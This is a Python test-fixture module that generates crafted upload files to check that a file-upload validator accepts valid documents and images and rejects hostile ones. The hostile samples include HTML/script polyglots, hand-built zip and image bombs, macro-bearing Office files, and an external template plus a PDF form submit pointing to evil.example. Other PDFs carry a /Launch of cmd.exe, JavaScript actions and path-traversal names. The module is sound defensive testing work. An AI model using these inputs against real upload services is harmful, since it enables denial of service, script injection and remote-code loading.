"""A corpus of crafted upload files: polyglots, zip bombs, macro-carrying Office files, image bombs,
active PDFs, mislabelled and broken files, and a set of valid files that must still be accepted.

Every file is generated here, small on disk (a 1 GiB zip bomb takes about 1 MB). Run it to look at
the files:

    .venv/bin/python -m tests.uploads.make_corpus /tmp/corpus

The tests build it once per session in a temporary folder (``write``).
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.uploads.samples import MINIMAL_PDF, PAGE_OBJECTS, pdf

MiB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    key: str  # the file's name in the corpus folder
    upload_name: str  # the name the browser sends
    accepted: bool
    why: str
    build: Callable[[], bytes]


# --- Valid building blocks ----------------------------------------------------------------------


def png(width: int = 48, height: int = 32, mode: str = "RGB") -> bytes:
    from PIL import Image

    image = Image.new(mode, (width, height), "#3a7")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 64, height: int = 64) -> bytes:
    from PIL import Image

    image = Image.effect_noise((width, height), 60).convert("RGB")
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


def mpo() -> bytes:
    """A JPEG photo with a second picture, as phones and cameras write them (Pillow's MPO)."""
    from PIL import Image

    first = Image.effect_noise((64, 64), 60).convert("RGB")
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (32, 32), "red")])
    return out.getvalue()


def gif(frames: int = 1) -> bytes:
    from PIL import Image

    images = [Image.new("P", (32, 32), i * 40) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:])
    return out.getvalue()


CONTENT_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}
MAIN_PARTS = {
    "docx": (
        "word/document.xml",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>教学反思</w:t></w:r></w:p></w:body></w:document>",
    ),
    "pptx": (
        "ppt/presentation.xml",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
    ),
}


def content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def rels(main_part: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{main_part}"/></Relationships>'
    )


def zipped(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def office_parts(kind: str, *, main_type: str | None = None) -> dict[str, bytes | str]:
    main_part, main = MAIN_PARTS[kind]
    return {
        "[Content_Types].xml": content_types(main_part, main_type or CONTENT_TYPES[kind]),
        "_rels/.rels": rels(main_part),
        main_part: main,
    }


def docx(**extra: bytes | str) -> bytes:
    return zipped({**office_parts("docx"), **extra})


def pptx(**extra: bytes | str) -> bytes:
    return zipped({**office_parts("pptx"), **extra})


def xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["工号", "姓名"])
    book.active.append(["XH-001", "张老师"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_with(**extra: bytes) -> bytes:
    """The valid workbook with members added."""
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    members = {info.filename: source.read(info) for info in source.infolist()}
    return zipped({**members, **extra})


def xlsx_without(name: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    return zipped({i.filename: source.read(i) for i in source.infolist() if i.filename != name})


def ole2(body: bytes = b"") -> bytes:
    """An OLE2 compound file header followed by ``body`` (enough for the checks that are made)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + body + b"\x00" * 512


def pypdf_pdf(edit: Callable | None = None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if edit is not None:
        edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Crafted bad files --------------------------------------------------------------------------


def zeros_deflated(size: int) -> tuple[bytes, int]:
    """Raw deflate data of ``size`` zero bytes, and its CRC-32, made by repeating one compressed
    MiB (a byte-aligned block) instead of compressing gigabytes."""
    assert size % MiB == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\x00" * MiB) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    chunk = b"\x00" * MiB
    for _ in range(size // MiB):
        crc = zlib.crc32(chunk, crc)
    return block * (size // MiB) + b"\x03\x00", crc  # an empty final block ends the stream


def zip_with_bomb(members: dict[str, bytes | str], bomb_name: str, bomb_size: int) -> bytes:
    """A zip archive of ``members`` plus one member of ``bomb_size`` zeros, written by hand (the
    zipfile module would compress every byte of it)."""
    out = io.BytesIO(zipped(members))
    archive = zipfile.ZipFile(out, "a")
    data, crc = zeros_deflated(bomb_size)
    info = zipfile.ZipInfo(bomb_name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.CRC, info.compress_size, info.file_size = crc, len(data), bomb_size
    info.header_offset = archive.start_dir
    archive.fp.seek(archive.start_dir)
    archive.fp.write(info.FileHeader(zip64=False))
    archive.fp.write(data)
    archive.start_dir = archive.fp.tell()
    archive.filelist.append(info)
    archive.NameToInfo[info.filename] = info
    archive._didModify = True
    archive.close()
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_size(width: int, height: int) -> bytes:
    """A black 1-bit PNG of any size: its rows of zeros compress to almost nothing."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def png_with_text(text: bytes) -> bytes:
    valid = png()
    end = valid.rindex(b"IEND") - 4
    return valid[:end] + png_chunk(b"tEXt", b"Comment\x00" + text) + valid[end:]


def corrupt(data: bytes, at: float = 0.6) -> bytes:
    position = int(len(data) * at)
    return data[:position] + bytes([data[position] ^ 0xFF]) + data[position + 1 :]


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b'<rect width="10" height="10"/></svg>'
)


def pdf_with_catalog(catalog: bytes, *more: bytes) -> bytes:
    return pdf(catalog, *PAGE_OBJECTS[1:], *more)


def _add_js(writer) -> None:
    from pypdf.actions import JavaScript

    writer.add_open_action(JavaScript("app.alert('hello');"))


def _add_attachment(writer) -> None:
    writer.add_attachment("payload.html", HTML)


def _encrypt(writer) -> None:
    writer.encrypt("secret")


def pdf_with_page(page: bytes, *more: bytes) -> bytes:
    return pdf(*PAGE_OBJECTS[:2], page, *more)


def pdf_stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def pdf_file_attachment() -> bytes:
    """An embedded file behind a file-attachment annotation, its stream without /Type."""
    return pdf_with_page(
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] "
        b"/FS << /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >> >>",
        pdf_stream(b"hello"),
    )


def docx_padded_macro() -> bytes:
    """[Content_Types].xml padded past 1 MB, then a VBA project declared for a part not named
    vbaProject."""
    main_part, main = MAIN_PARTS["docx"]
    # Hex digits of random bytes: not packed tightly enough to look like a zip bomb.
    padding = "<!-- " + random.Random(8).randbytes(MiB // 2 + 10).hex() + " -->"
    extra = (
        padding + '<Override PartName="/word/code.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    types = content_types(main_part, CONTENT_TYPES["docx"], extra)
    return docx(**{"[Content_Types].xml": types, "word/code.bin": b"\xd0\xcf\x11\xe0" * 16})


def docx_external_template() -> bytes:
    return docx(
        **{
            "word/settings.xml": "<w:settings/>",
            "word/_rels/settings.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            ),
        }
    )


def docx_hyperlink() -> bytes:
    return docx(
        **{
            "word/_rels/document.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/hyperlink" '
                'Target="https://www.example.edu.cn/" TargetMode="External"/></Relationships>'
            )
        }
    )


def jpeg_segments_then(segment: bytes) -> bytes:
    """The valid JPEG with ``segment`` inserted after its start marker."""
    valid = jpeg()
    return valid[:2] + segment + valid[2:]


def jpeg_comment(text: bytes) -> bytes:
    return jpeg_segments_then(b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text)


def jpeg_of_size(width: int, height: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), "#8ab").save(out, "JPEG", quality=80)
    return out.getvalue()


def motion_photo() -> bytes:
    """A phone's motion photo: the JPEG, then an MP4 file (an ftyp box first)."""
    return jpeg() + struct.pack(">I", 24) + b"ftypmp42" + b"\x00" * 12 + b"\x00\x00\x00\x08free"


SAMPLES: list[Sample] = [
    # --- Valid files: accepted ---
    Sample("ok.pdf", "教案.pdf", True, "a hand-written one-page PDF", lambda: MINIMAL_PDF),
    Sample("ok-pypdf.pdf", "pypdf.pdf", True, "a PDF written by pypdf", pypdf_pdf),
    Sample("ok.png", "照片.png", True, "a PNG made by Pillow", png),
    Sample("ok-rgba.png", "透明.png", True, "an RGBA PNG", lambda: png(mode="RGBA")),
    Sample("ok.jpg", "课堂.jpg", True, "a JPEG made by Pillow", jpeg),
    Sample("ok.jpeg", "课堂.JPEG", True, "an upper-case extension", jpeg),
    Sample("ok-mpo.jpg", "手机照片.jpg", True, "a phone photo with a second picture", mpo),
    Sample("ok.gif", "动图.gif", True, "a GIF", gif),
    Sample("ok-animated.gif", "动画.gif", True, "an animated GIF", lambda: gif(frames=3)),
    Sample("ok.docx", "反思.docx", True, "a minimal Word document", docx),
    Sample("ok.xlsx", "名单.xlsx", True, "an openpyxl workbook", xlsx),
    Sample("ok.pptx", "课件.pptx", True, "a minimal presentation", pptx),
    Sample(
        "ok-12mp.jpg", "手机.jpg", True, "a 12 MP phone photo", lambda: jpeg_of_size(4032, 3024)
    ),
    Sample("ok-motion.jpg", "动态照片.jpg", True, "a motion photo (JPEG then MP4)", motion_photo),
    Sample(
        "ok-samsung.jpg",
        "三星.jpg",
        True,
        "a Samsung photo with its trailer of tagged blocks",
        lambda: (
            jpeg()
            + b"\x00\x00\x0a\x01Image_UTC_Data1700000000000"
            + b"SEFH"
            + b"\x6a\x00\x00\x00\x01\x00\x00\x00"
            + b"\x00" * 12
            + struct.pack("<I", 24)
            + b"SEFT"
        ),
    ),
    Sample("ok-link.docx", "链接.docx", True, "a Word document with a hyperlink", docx_hyperlink),
    Sample(
        "ok-xmp.jpg",
        "元数据.jpg",
        True,
        "a JPEG with XMP metadata",
        lambda: jpeg_segments_then(
            b"\xff\xe1"
            + struct.pack(">H", 2 + 29 + 60)
            + b"http://ns.adobe.com/xap/1.0/\x00"
            + b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:title>t</dc:title>'.ljust(60)
        ),
    ),
    Sample(
        "ok-traversal.pdf",
        "../../教案（路径）.pdf",
        True,
        "folders in the name are dropped",
        lambda: MINIMAL_PDF,
    ),
    Sample(
        "ok-long-name.pdf",
        "很长的文件名" * 60 + ".pdf",
        True,
        "a long name is shortened and keeps .pdf",
        lambda: MINIMAL_PDF,
    ),
    # --- Polyglots ---
    Sample("png-html.png", "poly.png", False, "HTML after IEND", lambda: png() + HTML),
    Sample("png-trailing.png", "tail.png", False, "bytes after IEND", lambda: png() + b"\x01tail"),
    Sample(
        "png-text-script.png",
        "text.png",
        False,
        "script in a tEXt chunk",
        lambda: png_with_text(HTML),
    ),
    Sample("jpeg-html.jpg", "poly.jpg", False, "HTML after the JPEG", lambda: jpeg() + HTML),
    Sample(
        "png-text-img.png",
        "img.png",
        False,
        "an <img onerror> in a tEXt chunk",
        lambda: png_with_text(b"<img src=x onerror=alert(1)>"),
    ),
    Sample(
        "jpeg-comment-link.jpg",
        "link.jpg",
        False,
        "a script link in a JPEG comment",
        lambda: jpeg_comment(b'<a href="javascript:alert(1)">x</a>'),
    ),
    Sample("jpeg-zip.jpg", "zip.jpg", False, "a zip after the JPEG", lambda: jpeg() + docx()),
    Sample("jpeg-pdf.jpg", "pdf.jpg", False, "a PDF after the JPEG", lambda: jpeg() + MINIMAL_PDF),
    Sample("gif-zip.gif", "zip.gif", False, "a zip after the GIF", lambda: gif() + docx()),
    Sample("gif-html.gif", "poly.gif", False, "HTML after the GIF", lambda: gif() + HTML),
    Sample(
        "pdf-html-object.pdf",
        "poly.pdf",
        False,
        "HTML in an object outside streams",
        lambda: pdf(*PAGE_OBJECTS, b"(" + HTML.strip() + b")"),
    ),
    Sample(
        "pdf-html-stream.pdf",
        "stream.pdf",
        False,
        "HTML inside a stream object",
        lambda: pdf(*PAGE_OBJECTS, pdf_stream(HTML)),
    ),
    Sample(
        "pdf-html-comment-stream.pdf",
        "comment.pdf",
        False,
        "HTML between %stream and %endstream comments",
        lambda: pdf(*PAGE_OBJECTS, b"<< >>\n%stream\n" + HTML + b"%endstream"),
    ),
    Sample(
        "pdf-html-after-eof.pdf", "eof.pdf", False, "HTML after %%EOF", lambda: MINIMAL_PDF + HTML
    ),
    Sample("html-then-pdf.pdf", "front.pdf", False, "HTML before %PDF", lambda: HTML + MINIMAL_PDF),
    # --- Zip bombs and broken archives ---
    Sample(
        "zip-bomb.docx",
        "bomb.docx",
        False,
        "1 GiB of zeros inside",
        lambda: zip_with_bomb(office_parts("docx"), "word/media/image1.bin", 1024 * MiB),
    ),
    Sample(
        "zip-ratio.docx",
        "ratio.docx",
        False,
        "64 MiB packed a thousandfold",
        lambda: zip_with_bomb(office_parts("docx"), "word/media/image1.bin", 64 * MiB),
    ),
    Sample(
        "zip-bomb.xlsx",
        "bomb.xlsx",
        False,
        "a bomb in a workbook",
        lambda: zip_with_bomb({"[Content_Types].xml": "x"}, "xl/workbook.xml", 512 * MiB),
    ),
    Sample(
        "zip-members.docx",
        "many.docx",
        False,
        "too many members",
        lambda: docx(**{f"word/media/p{i}.xml": "" for i in range(5001)}),
    ),
    Sample(
        "not-zip.docx", "junk.docx", False, "PK then junk", lambda: b"PK\x03\x04" + b"\x07" * 300
    ),
    Sample(
        "plain-zip.docx",
        "plain.docx",
        False,
        "a zip of text files",
        lambda: zipped({"readme.txt": "hello"}),
    ),
    # --- Office files with macros or without their parts ---
    Sample(
        "docx-vba.docx",
        "macro.docx",
        False,
        "vbaProject.bin",
        lambda: docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64}),
    ),
    Sample(
        "docm-renamed.docx",
        "docm.docx",
        False,
        "a macro-enabled main part",
        lambda: zipped(office_parts("docx", main_type=CONTENT_TYPES["docm"])),
    ),
    Sample(
        "xlsx-vba.xlsx",
        "macro.xlsx",
        False,
        "vbaProject.bin in a workbook",
        lambda: xlsx_with(**{"xl/vbaProject.bin": b"\x00" * 64}),
    ),
    Sample(
        "pptx-vba.pptx",
        "macro.pptx",
        False,
        "vbaProject.bin in a presentation",
        lambda: pptx(**{"ppt/vbaProject.bin": b"\x00" * 64}),
    ),
    Sample(
        "docx-html-only.docx",
        "html.docx",
        False,
        "only an HTML part",
        lambda: zipped(
            {
                "[Content_Types].xml": content_types("word/document.htm", "text/html"),
                "word/document.htm": HTML,
            }
        ),
    ),
    Sample(
        "docx-html-main.docx",
        "html-main.docx",
        False,
        "the main part is HTML",
        lambda: zipped({**office_parts("docx"), "word/document.xml": HTML}),
    ),
    Sample(
        "docx-no-content-types.docx",
        "noct.docx",
        False,
        "no [Content_Types].xml",
        lambda: zipped({k: v for k, v in office_parts("docx").items() if "Content" not in k}),
    ),
    Sample(
        "xlsx-no-workbook.xlsx",
        "nowb.xlsx",
        False,
        "no xl/workbook.xml",
        lambda: xlsx_without("xl/workbook.xml"),
    ),
    Sample(
        "pptx-no-presentation.pptx",
        "nopres.pptx",
        False,
        "no ppt/presentation.xml",
        lambda: zipped({"[Content_Types].xml": "<Types/>", "ppt/slides/slide1.xml": "<p/>"}),
    ),
    Sample("xlsx-as-docx.docx", "wrong.docx", False, "a workbook named .docx", xlsx),
    Sample(
        "doc-vba.doc",
        "macro.doc",
        False,
        "an OLE2 file with a VBA project",
        lambda: ole2("_VBA_PROJECT".encode("utf-16-le")),
    ),
    Sample("doc-legacy.doc", "旧版.doc", False, "an old Word file (no macros)", ole2),
    Sample("xls-legacy.xls", "旧版.xls", False, "an old Excel file", ole2),
    Sample("ppt-legacy.ppt", "旧版.ppt", False, "an old PowerPoint file", ole2),
    Sample(
        "docx-padded-vba.docx",
        "padded.docx",
        False,
        "[Content_Types].xml past 1 MB declaring a VBA project",
        docx_padded_macro,
    ),
    Sample(
        "docx-vba-type.docx",
        "vbatype.docx",
        False,
        "a VBA project declared for a part named otherwise",
        lambda: docx(
            **{
                "[Content_Types].xml": content_types(
                    "word/document.xml",
                    CONTENT_TYPES["docx"],
                    '<Override PartName="/word/code.bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/>',
                ),
                "word/code.bin": b"\x00" * 64,
            }
        ),
    ),
    Sample(
        "docx-external-template.docx",
        "template.docx",
        False,
        "an attached template on a server",
        docx_external_template,
    ),
    Sample(
        "docx-activex.docx",
        "activex.docx",
        False,
        "an ActiveX control",
        lambda: docx(**{"word/activeX/activeX1.xml": "<ax:ocx/>"}),
    ),
    Sample(
        "docx-ole.docx",
        "ole.docx",
        False,
        "an embedded OLE object",
        lambda: docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 16}),
    ),
    # --- Image bombs and broken images ---
    Sample(
        "png-20000.png",
        "huge.png",
        False,
        "20000 × 20000 pixels",
        lambda: png_of_size(20000, 20000),
    ),
    Sample(
        "png-12000.png", "big.png", False, "12000 × 12000 pixels", lambda: png_of_size(12000, 12000)
    ),
    Sample(
        "png-41mp.png",
        "41mp.png",
        False,
        "8000 × 5200 pixels (41.6 MP)",
        lambda: png_of_size(8000, 5200),
    ),
    Sample("png-truncated.png", "cut.png", False, "cut in half", lambda: png()[: len(png()) // 2]),
    Sample("png-bad-crc.png", "crc.png", False, "a corrupted chunk", lambda: corrupt(png())),
    Sample("jpeg-truncated.jpg", "cut.jpg", False, "cut in half", lambda: jpeg(256, 256)[:1500]),
    Sample("gif-truncated.gif", "cut.gif", False, "a GIF header only", lambda: gif()[:20]),
    # --- Active PDFs ---
    Sample(
        "pdf-openaction-js.pdf",
        "js.pdf",
        False,
        "/OpenAction with /JavaScript",
        lambda: pdf_with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
        ),
    ),
    Sample(
        "pdf-js-escaped.pdf",
        "escaped.pdf",
        False,
        "/J#61vaScript, a name escape",
        lambda: pdf_with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>"
        ),
    ),
    Sample(
        "pdf-add-js.pdf",
        "pypdf-js.pdf",
        False,
        "JavaScript added by pypdf",
        lambda: pypdf_pdf(_add_js),
    ),
    Sample(
        "pdf-embedded.pdf",
        "attach.pdf",
        False,
        "an embedded HTML file",
        lambda: pypdf_pdf(_add_attachment),
    ),
    Sample(
        "pdf-launch.pdf",
        "launch.pdf",
        False,
        "/Launch action",
        lambda: pdf_with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
        ),
    ),
    Sample(
        "pdf-file-attachment.pdf",
        "annot.pdf",
        False,
        "a file-attachment annotation with an embedded file",
        pdf_file_attachment,
    ),
    Sample(
        "pdf-gotor.pdf",
        "gotor.pdf",
        False,
        "/OpenAction /GoToR to another file",
        lambda: pdf_with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R "
            b"/OpenAction << /S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit] >> >>"
        ),
    ),
    Sample(
        "pdf-xfa.pdf",
        "xfa.pdf",
        False,
        "an XFA form",
        lambda: pdf_with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            pdf_stream(b"<xdp:xdp/>"),
        ),
    ),
    Sample(
        "pdf-submitform.pdf",
        "submit.pdf",
        False,
        "a link annotation submitting the form",
        lambda: pdf_with_page(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            b"/A << /S /SubmitForm /F (http://evil.example/) >> >>",
        ),
    ),
    Sample(
        "pdf-page-aa-import.pdf",
        "import.pdf",
        False,
        "a page's additional action importing data",
        lambda: pdf_with_page(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/AA << /O << /S /ImportData /F (x.fdf) >> >> >>"
        ),
    ),
    Sample(
        "pdf-encrypted.pdf", "locked.pdf", False, "password protected", lambda: pypdf_pdf(_encrypt)
    ),
    Sample("pdf-broken.pdf", "broken.pdf", False, "a header and junk", lambda: b"%PDF-1.4\n" * 40),
    # --- Wrong content for the name ---
    Sample("svg-as-png.png", "vector.png", False, "an SVG named .png", lambda: SVG),
    Sample("html-as-pdf.pdf", "page.pdf", False, "an HTML page named .pdf", lambda: HTML),
    Sample(
        "exe-as-pdf.pdf",
        "virus.pdf",
        False,
        "a Windows program",
        lambda: b"MZ\x90\x00" + b"\0" * 300,
    ),
    Sample("jpeg-as-png.png", "photo.png", False, "a JPEG named .png", jpeg),
    Sample("png-as-jpg.jpg", "photo.jpg", False, "a PNG named .jpg", png),
    Sample("html-as-doc.doc", "page.doc", False, "HTML named .doc", lambda: HTML),
    Sample("empty.pdf", "empty.pdf", False, "an empty file", lambda: b""),
    Sample("empty.png", "empty.png", False, "an empty image", lambda: b""),
    Sample("program.exe", "setup.exe", False, "a program", lambda: b"MZ\x90\x00" + b"\0" * 64),
    Sample("page.html", "page.html", False, "a web page", lambda: HTML),
    Sample("no-extension", "README", False, "no extension", lambda: MINIMAL_PDF),
    Sample(
        "traversal-html.pdf", "../../../etc/evil.pdf", False, "a page behind a path", lambda: HTML
    ),
    Sample(
        "long-name.exe",
        "很长" * 200 + ".exe",
        False,
        "a long name hiding .exe",
        lambda: MINIMAL_PDF,
    ),
]


def write(directory: Path) -> list[Sample]:
    """Write every sample into ``directory`` with a manifest; return the samples."""
    directory.mkdir(parents=True, exist_ok=True)
    manifest = []
    for sample in SAMPLES:
        (directory / sample.key).write_bytes(sample.build())
        manifest.append(
            {"file": sample.key, "name": sample.upload_name, "accepted": sample.accepted}
        )
    (directory / "manifest.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1), encoding="utf-8"
    )
    return SAMPLES


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    written = write(target)
    print(f"{len(written)} files in {target}")
